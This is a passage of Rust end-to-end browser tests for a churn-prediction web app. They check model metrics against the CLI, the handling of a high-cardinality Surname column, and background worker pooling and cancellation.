            format!("{native:.4}"),
            "{model}: page vs CLI, same test customers"
        );
    }
    for model in ["logistic", "gbdt"] {
        let auc: f64 = comparison_auc(c, model).await.parse().expect("a number");
        assert!(auc > 0.5, "{model} {auc}");
    }
    let note = text_of(c, "baseline-note").await;
    assert!(note.contains("BG/NBD (baseline): r = "), "{note}");
    screenshot_of(c, "comparison-table", "34-orders-comparison.png").await;
    // The action list is for the current customers, as of the log's last day.
    let button = text_of(c, "score-customers").await;
    assert!(
        button.contains(&format!("{} current customers", group(current))),
        "{button}"
    );
    click(c, "score-customers").await;
    wait_for(
        c,
        "the action list",
        "return document.querySelectorAll('[data-testid=action-row]').length;",
        |v| v.as_u64().unwrap_or(0) > 0,
    )
    .await;
    click(c, "download-csv").await;
    let csv = downloaded(
        &downloads,
        &format!(
            "churn-action-list-orders_e2e-customers-{cutoff}-{}.csv",
            today_utc()
        ),
    )
    .await;
    let csv = String::from_utf8(csv).expect("utf-8");
    let rows = csv
        .trim_start_matches('\u{feff}')
        .lines()
        .filter(|l| !l.is_empty())
        .count();
    assert_eq!(rows as u64, 1 + current);
    s.audit_network().await;
    s.close().await;
}

/// `n` with thousands separators, as the page writes counts.
fn group(n: u64) -> String {
    churnscope_engine::dataset::group_thousands(n as usize)
}

/// The kind the column table shows for `column`.
async fn column_kind(c: &Client, column: &str) -> String {
    let script = format!(
        "const s = document.querySelector('[data-testid=kind-select][aria-label=\"Kind of column {column}\"]'); return s ? s.value : null;"
    );
    wait_for(c, column, &script, |v| v.is_string())
        .await
        .as_str()
        .expect("kind")
        .to_string()
}

#[tokio::test]
#[ignore = "needs the built site and chromedriver; run by scripts/test.sh"]
async fn a_near_unique_surname_is_left_out_with_its_reason_and_one_click_includes_it() {
    // The bank file (datasets/README.md: Surname has 2,932 names in 10,000 rows).
    let bank = shared_dataset("Churn_Modelling.csv");
    let cli = |extra: &[&str]| -> Value {
        let mut args = vec!["train", "--format", "json"];
        args.extend_from_slice(extra);
        let out = std::process::Command::new(cli_binary())
            .args(&args)
            .arg(&bank)
            .output()
            .expect("run the CLI");
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        serde_json::from_slice(&out.stdout).expect("CLI json")
    };
    let s = open_app().await;
    let c = &s.client;
    upload(c, &bank).await;
    assert_eq!(column_kind(c, "Surname").await, "text");
    let warning = text_of(c, "data-warning").await;
    let warnings = c
        .execute(
            "return [...document.querySelectorAll('[data-testid=data-warning]')].map(e => e.textContent).join(' | ');",
            vec![],
        )
        .await
        .expect("warnings");
    let warnings = warnings.as_str().expect("text");
    assert!(
        warnings.contains("'Surname' is left out of the model: it is text with 2,932 different values in 10,000 rows"),
        "{warning} / {warnings}"
    );
    // Default logistic regression: as good as with Surname left out by hand (the CLI's
    // `--ignore Surname`, same split), and equal to the CLI's default.
    choose_model(c, "logistic").await;
    click(c, "train-button").await;
    let by_default = text_of(c, "metric-roc-auc").await;
    let by_hand = cli(&["--ignore", "Surname"])["metrics"]["roc_auc"]
        .as_f64()
        .expect("auc");
    assert_eq!(by_default, format!("{by_hand:.4}"));
    screenshot_of(c, "warnings", "36-surname-left-out.png").await;
    // One click includes it: a category now, flagged as wide instead.
    click(c, "include-column").await;
    assert_eq!(column_kind(c, "Surname").await, "categorical");
    let warnings = wait_for(
        c,
        "the wide-column warning",
        "return [...document.querySelectorAll('[data-testid=data-warning]')].map(e => e.textContent).join(' | ');",
        |v| v.as_str().is_some_and(|t| t.contains("'Surname' has 2932 different values")),
    )
    .await;
    assert!(
        !warnings
            .as_str()
            .expect("text")
            .contains("'Surname' is left out"),
        "{warnings}"
    );
    click(c, "train-button").await;
    let included = cli(&["--include", "Surname"])["metrics"]["roc_auc"]
        .as_f64()
        .expect("auc");
    let shown = wait_for(
        c,
        "the model with Surname",
        "const e = document.querySelector('[data-testid=metric-roc-auc]'); return e ? e.textContent : null;",
        |v| v.as_str().is_some_and(|t| t != by_default),
    )
    .await;
    assert_eq!(shown.as_str().expect("text"), format!("{included:.4}"));
    s.audit_network().await;
    s.close().await;
}

/// Counts the page's background workers: every `new Worker` and every worker terminated
/// (once, however often `terminate` is called on it), from a script the DevTools protocol
/// adds to each new document (the page's CSP stays as it is).
const COUNT_WORKERS: &str = r#"
window.__workers = { started: 0, terminated: 0 };
const PageWorker = window.Worker;
window.Worker = class extends PageWorker {
  constructor(...args) { super(...args); window.__workers.started += 1; }
  terminate() {
    if (!this.__terminated) { this.__terminated = true; window.__workers.terminated += 1; }
    return super.terminate();
  }
};"#;

/// (workers started, workers terminated) so far on this page.
async fn worker_counts(c: &Client) -> (u64, u64) {
    let v = c
        .execute(
            "return [window.__workers.started, window.__workers.terminated];",
            vec![],
        )
        .await
        .expect("worker counts");
    (
        v[0].as_u64().expect("started"),
        v[1].as_u64().expect("terminated"),
    )
}

/// Telco in the page opened at `query`: trains logistic regression and boosted trees,
/// scores every customer with the trees' reasons and downloads the action list. Returns
/// the two ROC AUCs shown, the list, and the workers each job started.
async fn telco_trees_action_list(
    s: &Session,
    query: &str,
    downloads: &std::path::Path,
) -> (Vec<String>, String, u64, u64) {
    let c = &s.client;
    c.goto(&format!("{}/{query}", s.server.origin))
        .await
        .expect("open the app");
    allow_downloads(c, downloads).await;
    upload(c, &shared_dataset("WA_Fn-UseC_-Telco-Customer-Churn.csv")).await;
    assert_eq!(text_of(c, "row-count").await, "7043");
    let before = worker_counts(c).await;
    choose_models(c, &["logistic", "gbdt"]).await;
    click(c, "train-button").await;
    let aucs = vec![
        comparison_auc(c, "logistic").await,
        comparison_auc(c, "gbdt").await,
    ];
    wait_for(
        c,
        "training done",
        "return document.querySelector('[data-testid=progress]') ? null : true;",
        |v| v == true,
    )
    .await;
    let trained = worker_counts(c).await;
    c.execute(
        "document.querySelector('[data-testid=use-model][data-model=gbdt]').click(); return true;",
        vec![],
    )
    .await
    .expect("use the trees");
    click(c, "score-customers").await;
    wait_for(
        c,
        "every customer scored",
        "return document.querySelector('[data-testid=action-count]')?.textContent ?? null;",
        |v| v == "7,043",
    )
    .await;
    let scored = worker_counts(c).await;
    assert_eq!(scored.0, scored.1, "every worker ends with its job");
    click(c, "download-csv").await;
    let csv = downloaded(
        downloads,
        &format!(
            "churn-action-list-WA_Fn-UseC_-Telco-Customer-Churn-{}.csv",
            today_utc()
        ),
    )
    .await;
    (
        aucs,
        String::from_utf8(csv).expect("utf-8"),
        trained.0 - before.0,
        scored.0 - trained.0,
    )
}

/// Opens the advanced settings and chooses `folds`-fold cross-validation.
async fn cv_folds(c: &Client, folds: usize) {
    c.execute(
        r#"const d = document.querySelector('[data-testid=advanced]'); d.open = true;
           const s = document.querySelector('[data-testid=cv-folds]'); s.value = String(arguments[0]);
           s.dispatchEvent(new Event('change', {bubbles: true})); return true;"#,
        vec![serde_json::json!(folds)],
    )
    .await
    .expect("cross-validation folds");
}

/// The app with every worker it starts and ends counted ([`worker_counts`]), and the cores
/// the browser reports.
async fn open_app_counting_workers() -> (Session, u64) {
    let s = open_app().await;
    let c = &s.client;
    cdp(
        c,
        "Page.addScriptToEvaluateOnNewDocument",
        serde_json::json!({ "source": COUNT_WORKERS }),
    )
    .await;
    let cores = c
        .execute("return navigator.hardwareConcurrency;", vec![])
        .await
        .expect("cores")
        .as_u64()
        .expect("a number");
    (s, cores)
}

/// Telco in the page opened at `query`: logistic regression alone with 5-fold
/// cross-validation and the search over its C grid. Returns the CV score and the test ROC
/// AUC shown, and the workers the training started.
async fn telco_logistic_cv(s: &Session, query: &str) -> (String, String, u64) {
    let c = &s.client;
    c.goto(&format!("{}/{query}", s.server.origin))
        .await
        .expect("open the app");
    upload(c, &shared_dataset("WA_Fn-UseC_-Telco-Customer-Churn.csv")).await;
    assert_eq!(text_of(c, "row-count").await, "7043");
    choose_models(c, &["logistic"]).await;
    cv_folds(c, 5).await;
    // The search box is enabled once the folds are set.
    wait_for(
        c,
        "the grid search ticked",
        "const b = document.querySelector('[data-testid=cv-search]'); if (!b.disabled && !b.checked) b.click(); return b.checked ? true : null;",
        |v| v == true,
    )
    .await;
    let before = worker_counts(c).await;
    click(c, "train-button").await;
    let cv = wait_for(
        c,
        "the CV score",
        "const r = document.querySelector('[data-testid=comparison-row][data-model=logistic] [data-metric=cv_mean]'); return r && r.textContent.trim() ? r.textContent : null;",
        |v| v.is_string(),
    )
    .await
    .as_str()
    .expect("text")
    .to_string();
    let auc = comparison_auc(c, "logistic").await;
    wait_for(
        c,
        "training done",
        "return document.querySelector('[data-testid=progress]') ? null : true;",
        |v| v == true,
    )
    .await;
    let after = worker_counts(c).await;
    assert_eq!(after.0, after.1, "every worker ends with its job");
    (cv, auc, after.0 - before.0)
}

/// Issue 18: one model's cross-validation shares its folds out over the pool of workers,
/// then fits the chosen setting on one: the same CV score and model as on one worker.
#[tokio::test]
#[ignore = "needs the built site and chromedriver; run by scripts/test.sh"]
async fn one_models_folds_share_out_over_the_pool_of_workers() {
    let (s, cores) = open_app_counting_workers().await;
    let (cv_pool, auc_pool, workers_pool) = telco_logistic_cv(&s, "").await;
    let (cv_one, auc_one, workers_one) = telco_logistic_cv(&s, "?workers=1").await;
    eprintln!("{cores} cores: CV {cv_pool} on {workers_pool} workers, {cv_one} on {workers_one}");
    // 5 folds (a task each: every C along one path) over min(cores, 5) workers, then the
    // final fit on one; with ?workers=1, one worker does it all.
    let expected = if cores >= 2 { cores.min(5) + 1 } else { 1 };
    assert_eq!(workers_pool, expected);
    assert_eq!(workers_one, 1, "?workers=1 keeps one worker");
    assert_eq!(
        cv_pool, cv_one,
        "the same cross-validation on one worker and on the pool"
    );
    assert_eq!(
        auc_pool, auc_one,
        "the same model on one worker and on the pool"
    );
}

/// What a forest trained on the page shows: its ROC AUC and log loss as the comparison
/// shows them, its explanation (the importance and partial-dependence charts as drawn, the
/// riskiest customers' table as text), and how many workers the training started.
struct ForestShown {
    auc: String,
    log_loss: String,
    explanation: Value,
    workers: u64,
}

/// A forest (no cross-validation) trained on the page at `query` on `file` (of `rows`
/// rows, as the page writes the count).
async fn forest_on(s: &Session, query: &str, file: &std::path::Path, rows: &str) -> ForestShown {
    let c = &s.client;
    c.goto(&format!("{}/{query}", s.server.origin))
        .await
        .expect("open the app");
    upload(c, file).await;
    assert_eq!(text_of(c, "row-count").await, rows);
    choose_models(c, &["forest"]).await;
    let before = worker_counts(c).await;
    click(c, "train-button").await;
    let auc = comparison_auc(c, "forest").await;
    let log_loss = wait_for(
        c,
        "the forest's log loss",
        "const r = document.querySelector('[data-testid=comparison-row][data-model=forest] [data-metric=log_loss]'); return r && r.textContent.trim() ? r.textContent : null;",
        |v| v.is_string(),
    )
    .await
    .as_str()
    .expect("text")
    .to_string();
    wait_for(
        c,
        "training done",
        "return document.querySelector('[data-testid=progress]') ? null : true;",
        |v| v == true,
    )
    .await;
    let after = worker_counts(c).await;
    assert_eq!(after.0, after.1, "every worker ends with its job");
    let explanation = wait_for(
        c,
        "the forest's explanation drawn",
        r#"const charts = ['importance-chart', 'pd-chart-0', 'pd-chart-1', 'pd-chart-2']
             .map(t => document.querySelector(`[data-testid=${t}]`)).filter(e => e);
           if (charts.length < 2 || charts.some(e => !e.dataset.drawn)) return null;
           return { charts: charts.map(e => e.toDataURL()),
                    risky: document.querySelector('[data-testid=risky-table]').textContent };"#,
        |v| v.is_object(),
    )
    .await;
    ForestShown {
        auc,
        log_loss,
        explanation,
        workers: after.0 - before.0,
    }
}

/// Issue 18: one forest's trees are grown over the pool of workers (consecutive runs of
/// trees, each from its own seed, sent back packed), then put together and evaluated on
/// one, then explained over the pool again (some columns' importance each, then some
/// points of the partial-dependence curves): the same model and the same explanation,
/// drawn pixel for pixel, as on one worker. A forest too small for the pool to pay
/// (Telco's) grows and is explained on one worker, and scores every customer with its
/// trees sent packed to the scoring workers.
#[tokio::test]
#[ignore = "needs the built site and chromedriver; run by scripts/test.sh"]
async fn one_forests_trees_grow_over_the_pool_of_workers() {
    let (s, cores) = open_app_counting_workers().await;
    // The built-in sample's generator, 50,000 customers (seeded): 40,000 training rows of
    // 15 columns, 100 trees, past the pool's limit of 50,000,000 (`share_forest`).
    let file = output_dir().join("sample_50000.csv");
    let csv = churnscope_engine::reading::sample::generate_csv(
        &churnscope_engine::reading::sample::SampleSpec {
            customers: 50_000,
            seed: 18,
        },
    );
    std::fs::write(&file, csv).expect("write the sample");
    let pool = forest_on(&s, "", &file, "50000").await;
    let one = forest_on(&s, "?workers=1", &file, "50000").await;
    eprintln!(
        "{cores} cores: forest AUC {} on {} workers, {} on {}",
        pool.auc, pool.workers, one.auc, one.workers
    );
    // 100 trees over one worker a core, then the forest put together on one more, then
    // its explanation in two stages of one worker a core each (2,000 explained customers
    // x 15 columns reach `share_explanation`'s limit); with ?workers=1, one worker does
    // it all.
    let expected = if cores >= 2 {
        cores.min(100) + 1 + 2 * cores.min(15)
    } else {
        1
    };
    assert_eq!(pool.workers, expected);
    assert_eq!(one.workers, 1, "?workers=1 keeps one worker");
    assert_eq!(
        (pool.auc, pool.log_loss),
        (one.auc, one.log_loss),
        "the same forest on one worker and on the pool"
    );
    assert_eq!(
        pool.explanation, one.explanation,
        "the same explanation on one worker and on the pool"
    );
    let telco = shared_dataset("WA_Fn-UseC_-Telco-Customer-Churn.csv");
    let telco = forest_on(&s, "", &telco, "7043").await;
    assert_eq!(
        telco.workers, 1,
        "Telco's forest and its explanation are too small to share out"
    );
    // The forest's trees travel packed to the workers scoring every customer.
    let c = &s.client;
    click(c, "score-customers").await;
    wait_for(
        c,
        "every Telco customer scored with the forest",
        "return document.querySelector('[data-testid=action-count]')?.textContent ?? null;",
        |v| v == "7,043",
    )
    .await;
    let (started, ended) = worker_counts(c).await;
    assert_eq!(started, ended, "every worker ends with its job");
}

/// Issue 18: training several models and scoring every customer run on a pool of background
/// workers, one per core (`navigator.hardwareConcurrency`), with the results of one worker;
/// Cancel stops every worker of the job.
#[tokio::test]
#[ignore = "needs the built site and chromedriver; run by scripts/test.sh"]
async fn training_and_scoring_share_out_over_a_pool_of_workers() {
    let (s, cores) = open_app_counting_workers().await;
    let c = &s.client;
    let downloads = output_dir().join("downloads-pool");
    let (aucs, pooled, train_workers, score_workers) =
        telco_trees_action_list(&s, "", &downloads).await;
    eprintln!("{cores} cores: training on {train_workers} workers, scoring on {score_workers}");
    // Two models on two workers; 7,043 customers in two slices (each over 1,024 rows).
    assert_eq!(train_workers, cores.min(2));
    assert_eq!(score_workers, cores.min(2));
    let (aucs_one, one, train_one, score_one) =
        telco_trees_action_list(&s, "?workers=1", &downloads).await;
    assert_eq!(
        (train_one, score_one),
        (1, 1),
        "?workers=1 keeps one worker"
    );
    assert_eq!(
        aucs, aucs_one,
        "the same models on one worker and on the pool"
    );
    assert_eq!(pooled.lines().count(), 7044, "a header and every customer");
    assert!(
        pooled == one,
        "the same action list on one worker and on the pool"
    );

    // Cancel stops every worker: the forest's reasons for 7,043 customers take long enough
    // to be caught with both workers busy.
    c.goto(&format!("{}/", s.server.origin))
        .await
        .expect("open");
    upload(c, &shared_dataset("WA_Fn-UseC_-Telco-Customer-Churn.csv")).await;
    // The table first: the models' boxes show, and are set to their defaults, once it is read.
    assert_eq!(text_of(c, "row-count").await, "7043");
    choose_models(c, &["forest"]).await;
    click(c, "train-button").await;
    // The button shows with the first model and is enabled once training has ended.
    wait_for(
        c,
        "the forest trained",
        "const b = document.querySelector('[data-testid=score-customers]'); \
         return b && !b.disabled ? true : null;",
        |v| v == true,
    )
    .await;
    click(c, "score-customers").await;
    // The stage and the live workers read in one script, at one moment.
    let seen = wait_for(
        c,
        "scoring on the pool",
        "const e = document.querySelector('[data-testid=progress-stage]'); \
         return e && e.textContent.includes('of 7,043') \
           ? [e.textContent, window.__workers.started, window.__workers.terminated] : null;",
        |v| v.is_array(),
    )
    .await;
    let stage = seen[0].as_str().expect("stage").to_string();
    if cores >= 2 {
        assert!(stage.ends_with("(2 background workers)"), "{stage}");
    }
    let running = seen[1].as_u64().expect("started") - seen[2].as_u64().expect("terminated");
    let error = c
        .execute(
            "const e = document.querySelector('[data-testid=error-message]'); return e ? e.textContent : null;",
            vec![],
        )
        .await
        .expect("error line");
    assert_eq!(
        running,
        cores.min(2),
        "the pool is at work: {seen}; error on page: {error}"
    );
    // By script: the progress line redraws with each report, so a found element may be
    // stale by the time WebDriver clicks it.
    c.execute(
        "document.querySelector('[data-testid=cancel-button]').click(); return true;",
        vec![],
    )
    .await
    .expect("Cancel");
    assert_eq!(
        text_of(c, "notice").await,
        "Scoring stopped. The results and settings are as they were."
    );
    let stopped = worker_counts(c).await;
    assert_eq!(stopped.0, stopped.1, "Cancel terminated every worker");
    assert!(c
        .execute(
            "return !document.querySelector('[data-testid=action-count]');",
            vec![]
        )
        .await
        .expect("no list")
        .as_bool()
        .expect("bool"));
    s.audit_network().await;
    s.close().await;
}
